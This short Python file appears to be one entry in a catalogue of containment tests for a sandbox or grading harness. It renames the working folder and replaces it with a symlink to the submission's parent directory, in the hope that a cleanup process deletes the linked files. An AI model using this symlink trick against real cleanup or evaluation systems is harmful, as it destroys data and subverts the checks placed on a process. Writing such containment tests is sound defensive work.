# /// attack
# class = "A93"
# title = "puts a link in place of the folder that will be deleted"
# hope = "what cleans up may delete what the link leads to"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import os
tried()
folder = os.getcwd()
try:
    os.rename(folder, f"{folder}-{TARGETS['mark']}")
    os.symlink(os.path.dirname(TARGETS["submission"]), folder)
except OSError:
    pass
